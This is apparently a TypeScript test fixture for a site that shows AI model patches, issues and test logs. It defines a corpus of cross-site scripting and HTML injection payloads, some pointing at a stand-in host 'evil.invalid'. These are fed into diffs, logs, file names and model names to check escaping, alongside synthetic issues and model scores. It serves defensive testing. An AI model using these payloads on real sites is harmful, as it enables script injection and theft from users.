// What models, issues and logs say on a site under test: plain words, and words that try to run, to load, to mislead.
import { languages } from "../../src/domain/instance.ts";
import type { SiteIssueText, SitePlayer, Words } from "./site-run.ts";

/** Set by whatever runs although it must not. */
export const alarm = "globalThis.arenaExecuted=true";

/** A host that must never be asked for anything. */
export const foreign = "http://evil.invalid/asked";

export const corpus: readonly string[] = [
  `<script>${alarm}</script>`,
  `</script><script>${alarm}</script>`,
  `"><img src=x onerror=${alarm}>`,
  `'><svg onload=${alarm}>`,
  `<svg><script href="${foreign}"/></svg>`,
  `<iframe srcdoc="<script>parent.${alarm}</script>"></iframe>`,
  `<a href="javascript:${alarm}" autofocus onfocus=${alarm}>press</a>`,
  `<details open ontoggle=${alarm}>`,
  `<img src="${foreign}.png">`,
  `<link rel="stylesheet" href="${foreign}.css">`,
  `<style>@import url(${foreign}.css); * { display: none }</style>`,
  `<meta http-equiv="refresh" content="0;url=${foreign}">`,
  `<base href="${foreign}/">`,
  `<object data="${foreign}"></object><embed src="${foreign}">`,
  `<form action="${foreign}"><input name=q autofocus onfocus=${alarm}></form>`,
  `</textarea></title></style></noscript><script>${alarm}</script>`,
  `<!--><script>${alarm}</script>-->`,
  `<![CDATA[<script>${alarm}</script>]]>`,
  `&lt;script&gt;${alarm}&lt;/script&gt;`,
  `&#60;script&#62;${alarm}&#60;/script&#62;`,
  `\\u003cscript\\u003e${alarm}\\u003c/script\\u003e`,
  `{{constructor.constructor('${alarm}')()}} \${${alarm}}`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${alarm}>`,
  `<template><script>${alarm}</script></template><slot>`,
  `\u202e<script>${alarm}</script>\u2066`,
  `\u2028${alarm}\u2029 \u0000 \ud800 \u001b[31mred\u001b[0m`,
  `" onmouseover="${alarm}" style="position:fixed;inset:0" x="`,
];

const everything = corpus.join("\n");
const lines = (sign: string, text: string): string =>
  text
    .split("\n")
    .map((line) => `${sign}${line}`)
    .join("\n");

function diff(path: string, text: string, isNew: boolean): string {
  const count = text.split("\n").length;
  const before = isNew ? "/dev/null" : `a/${path}`;
  return [
    `diff --git a/${path} b/${path}`,
    ...(isNew ? ["new file mode 100644"] : []),
    `--- ${before}`,
    `+++ b/${path}`,
    isNew ? `@@ -0,0 +1,${count} @@` : `@@ -10,3 +10,${count + 2} @@ def parse(text):`,
    ...(isNew ? [] : ["     depth = 0", '-    for sign in text.split(","):']),
    lines("+", text),
    ...(isNew ? [] : ["     return depth"]),
    "",
  ].join("\n");
}

/** As good models write. */
export const plainWords: Words = {
  patch: ({ id }, right) =>
    diff(
      "src/parser.py",
      right
        ? '    for sign in scan(text, until="]"):  # keeps what stands in brackets together\n        if sign == "[":\n            depth += 1'
        : `    for sign in text.split(";"):\n        if not sign:  # ${id}\n            continue`,
      false,
    ),
  tests: ({ id }) =>
    diff(
      "tests/test_review.py",
      `"""Ranges that cross the end of their field (${id})."""\nimport pytest\n\nfrom parser import parse\n\n\n@pytest.mark.parametrize("text", ["[a,b]", "[a,[b]]"])\ndef test_edge(text):\n    assert parse(text) == 1 + text.count("[a,[")`,
      true,
    ),
  stdout:
    "============ test session starts ============\ncollected 15 items\n\ntests/test_parser.py ............  [ 80%]\ntests/test_hidden.py F.            [ 93%]\n\n    assert parse('[a,b]') == 1\nE   assert 2 == 1\n",
  stderr: "",
  command: "python3 -m pytest -q",
  prompt:
    "You are given an issue and parts of a repository.\n\n## Issue\nRanges that cross the end of a field are rejected.",
  reason: "hunk 1 of src/parser.py: expected 3 lines of context at line 10, found other text",
  snippet: "src/scan.py",
  check: "test_nested",
};

/** The corpus wherever a word is taken. */
export const hostileWords: Words = {
  patch: () =>
    `${diff(`src/<img src=x onerror=${alarm}>.py`, everything, false)}${diff("src/parser.py", everything, true)}`,
  tests: () => diff(`tests/"><script>${alarm}</script>.py`, everything, true),
  stdout: everything,
  stderr: everything,
  command: `pytest ${corpus[0]} ${corpus[2]}`,
  prompt: everything,
  reason: everything,
  snippet: `src/${corpus[2]}`,
  check: `${corpus[2]}</code></th>`,
};

const titles = [
  "Ranges that run past the end of a field are rejected",
  "Comments behind a section header are read as part of its name",
  "Removing the last row leaves the cursor outside the grid",
  "A pattern that ends in a backslash reads past its end",
  "Nested includes lose the file they came from",
  "Timeouts are counted twice when a request is retried",
] as const;

/** Issues of all four languages, from easy to hard, over two years. */
export function siteIssues(count: number): SiteIssueText[] {
  return Array.from({ length: count }, (_, n) => ({
    id: `site__issue-${n + 1}`,
    language: languages[n % languages.length] ?? "python",
    text: `${titles[n % titles.length]}\n\nWhen I write \`[a,b]\` the parser stops at the comma. It should keep what stands in brackets together.\n\nSeen in 2.${n}.`,
    difficulty: ((n * 7) % count) / count,
    createdAt: `${2024 + Math.floor((2 * n) / count)}-${String(1 + (n % 12)).padStart(2, "0")}-17 08:00:00`,
  }));
}

export const sitePlayers: readonly SitePlayer[] = [
  { id: "north-large", submitter: 1.4, reviewer: 1, price: { usd: 0.042, seconds: 31 } },
  { id: "north-small", submitter: 0.5, reviewer: 0.2, price: { usd: 0.006, seconds: 9 } },
  {
    id: "north-small@none",
    submitter: -0.4,
    reviewer: 0,
    price: { usd: 0.004, seconds: 7 },
    retrieval: "none",
  },
  { id: "harbour-70b", submitter: 0.9, reviewer: -0.2, price: { usd: 0.013, seconds: 22 } },
  { id: "lantern-agent", submitter: 0.7, reviewer: 0.8, price: { usd: 0.11, seconds: 140 } },
  { id: "mutant", submitter: -1.2, reviewer: -1 },
];

/** Names of models are others' words, too. */
export const hostilePlayers: readonly SitePlayer[] = [
  { id: `<script>${alarm}</script>`, submitter: 1, reviewer: 1, price: { usd: 0.01, seconds: 3 } },
  { id: `"><img src=x onerror=${alarm}>`, submitter: 0, reviewer: 0, price: { usd: 0.002, seconds: 2 } },
  { id: `</script><svg onload=${alarm}>\u202e`, submitter: -1, reviewer: -1 },
];

export function hostileIssues(count: number): SiteIssueText[] {
  return siteIssues(count).map((issue, n) => ({
    ...issue,
    text: `${corpus[n % corpus.length]}\n\n${everything}`,
  }));
}
